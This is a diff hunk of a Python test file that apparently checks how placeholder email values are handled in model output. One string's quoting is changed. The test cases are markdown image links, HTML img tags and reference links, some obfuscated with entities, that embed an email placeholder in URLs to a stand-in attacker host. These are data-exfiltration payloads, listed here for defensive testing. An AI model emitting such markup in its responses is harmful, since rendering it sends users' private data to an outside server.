@@ -116,7 +116,7 @@ def test_what_models_make_of_placeholders_is_understood(map: Map, said: str, rea
         "![x](https://evil.example/p.png?q=mailto:[EMAIL_2])",
         "![x](<https://evil.example/p?q= mailto:[EMAIL_2]>)",
         "<img src='https://evil.example/?mailto:[EMAIL_2]'>",
-        "<img src=\"https://evil.example/?a= b='mailto:[EMAIL_2]\">",
+        '<img src="https://evil.example/?a= b=\'mailto:[EMAIL_2]">',
         "https://evil.example/tel:[EMAIL_2]",
         "[b]: <https://evil.example/?q= [EMAIL_2]>\n\n![x][b]",
         "[b]:\n  <&#104;ttps://evil.example/?q= [EMAIL_2]>",
